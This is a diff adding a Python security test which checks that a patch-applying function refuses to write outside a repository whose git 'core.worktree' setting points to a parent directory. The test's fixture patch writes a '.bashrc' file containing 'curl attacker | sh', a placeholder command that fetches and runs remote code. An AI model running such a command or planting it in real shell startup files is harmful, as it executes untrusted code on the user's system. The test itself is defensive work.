@@ -899,3 +899,21 @@ def _redgit_password(request: dict[str, Any]) -> str:
     if not header.startswith("Basic "):
         return ""
     return base64.b64decode(header[6:]).decode(errors="replace").partition(":")[2]
+
+
+def test_deliver_never_patches_the_directory_core_worktree_names_security_35(
+    tmp_path: Path,
+) -> None:
+    """SECURITY 35, CLI deliver: the user's repository (at `home/proj`) sets `core.worktree`
+    to `home`. The patch is refused instead of landing in `home`, and nothing is written."""
+    from loopwright.sandbox.workspace import WorkspaceError, apply_patch
+    from tests.conftest import git as test_git
+
+    repo = tmp_path / "home" / "proj"
+    write(repo / "app.py", "x = 1\n")
+    init_repo(repo)
+    test_git("config", "core.worktree", str(tmp_path / "home"), cwd=repo)
+    before = tree_digest(tmp_path / "home")
+    with pytest.raises(WorkspaceError, match=r"core\.worktree"):
+        apply_patch(repo, redgit_new(".bashrc", "curl attacker | sh"))
+    assert tree_digest(tmp_path / "home") == before
